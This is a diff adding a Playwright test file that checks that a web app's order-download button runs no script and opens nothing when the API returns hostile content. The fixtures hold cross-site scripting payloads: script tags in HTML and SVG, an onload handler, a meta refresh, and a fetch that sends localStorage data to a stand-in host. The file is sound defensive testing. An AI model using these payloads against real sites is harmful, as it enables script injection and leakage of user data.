@@ -1,0 +1,110 @@
+import type { Page } from '@playwright/test'
+import { startSameOriginProxy } from '../../bench/same-origin-proxy.mjs'
+import { environment, expect, test } from '../../support/browser'
+import { moreIf } from '../../support/more'
+import { api, demo, keepSession, logIn } from '../../support/api-session'
+
+// Who writes a text that the API delivers may get it into a download. The browser logs what it blocks.
+test.use({
+  allowedErrors: [
+    /^console\.error: (Blocked script|Refused to|Unsafe attempt|Failed to load resource|.*policy)|^csp: |ERR_BLOCKED/,
+  ],
+})
+
+const elsewhere = 'https://elsewhere.example/'
+const attack = `
+  try { parent.document.title = 'taken' } catch {}
+  try { fetch('${elsewhere}?' + parent.localStorage.length) } catch {}
+  open('${elsewhere}popup')
+  top.location = '${elsewhere}top'`
+
+const hostile = {
+  'a page with a script': { contentType: 'text/html', body: `<script>${attack}</script>` },
+  'a picture with a script': {
+    contentType: 'image/svg+xml',
+    body: `<svg xmlns="http://www.w3.org/2000/svg"><script>${attack}</script></svg>`,
+  },
+  'an error page with a script': {
+    status: 500,
+    contentType: 'text/html',
+    body: `<body onload="${attack.replaceAll('\n', ';')}">`,
+  },
+  'a page that loads another': {
+    contentType: 'text/html',
+    body: `<meta http-equiv="refresh" content="0; url=${elsewhere}frame">`,
+  },
+}
+
+/** The site with its API on another origin, and with both on one. */
+const sites = {
+  'another origin': () => ({
+    url: environment('LISTWELL_BUILT'),
+    host: new URL(api('')).host,
+    close: () => {},
+  }),
+  'the site’s own origin': async () => {
+    const { startStaticServer } = await import('../../../scripts/lib/static-server.mjs')
+    const site = await startStaticServer({
+      root: environment('LISTWELL_BUILT_FILES'),
+      // The hub stays where the mock API's responses say that it is.
+      meta: { VITE_MERCURE_ORIGIN: new URL(api('')).origin },
+    })
+    const proxy = await startSameOriginProxy(site.url, api(''))
+    const close = () => Promise.all([proxy.close(), site.close()])
+    return { url: proxy.url, host: new URL(proxy.url).host, close }
+  },
+}
+
+async function openOrder(page: Page, site: { url: string; host: string }) {
+  const session = await logIn(page.request, demo)
+  await keepSession(page.context(), session, site.host)
+  const headers = { Authorization: `Bearer ${session.access_token}` }
+  const order: { orderNumber: string } = await (await page.request.get(api('orders/59'), { headers })).json()
+  const url = `${site.url}/order/${order.orderNumber}/details`
+  await page.goto(url)
+  return { url, file: page.getByRole('button', { name: 'Download starter.csv' }) }
+}
+
+for (const [place, start] of Object.entries(sites))
+  test.describe(`a download from ${place}`, () => {
+    for (const [name, response] of Object.entries(hostile))
+      test(
+        `runs nothing and opens nothing where it is ${name}`,
+        moreIf(!name.includes('a script')),
+        async ({ page }) => {
+          const site = await start()
+          const effects: string[] = []
+          page.context().on('page', opened => effects.push(`popup ${opened.url()}`))
+          page.context().on('request', request => {
+            if (request.url().startsWith(elsewhere)) effects.push(request.url())
+          })
+          try {
+            const { url, file } = await openOrder(page, site)
+            await page.route(/\/download\?bearer=/, route => route.fulfill(response))
+            await file.click()
+            await expect(page.locator('[data-sonner-toast]').getByText('Download Failed')).toBeVisible()
+            // A request that the document begins comes before one that the page begins after it.
+            await page.evaluate(() => fetch('/favicon.svg').then(({ text }) => text))
+            expect(effects).toEqual([])
+            expect(page.url()).toBe(url)
+            expect(await page.title()).not.toBe('taken')
+            await expect(file).toBeEnabled()
+          } finally {
+            await site.close()
+          }
+        },
+      )
+
+    test('is saved', async ({ page }) => {
+      const site = await start()
+      try {
+        const { file } = await openOrder(page, site)
+        const [download] = await Promise.all([page.waitForEvent('download'), file.click()])
+        expect(download.suggestedFilename()).toBe('starter.csv')
+        expect(await download.failure()).toBeNull()
+        await expect(page.locator('[data-sonner-toast]').getByText('Download Started')).toBeVisible()
+      } finally {
+        await site.close()
+      }
+    })
+  })
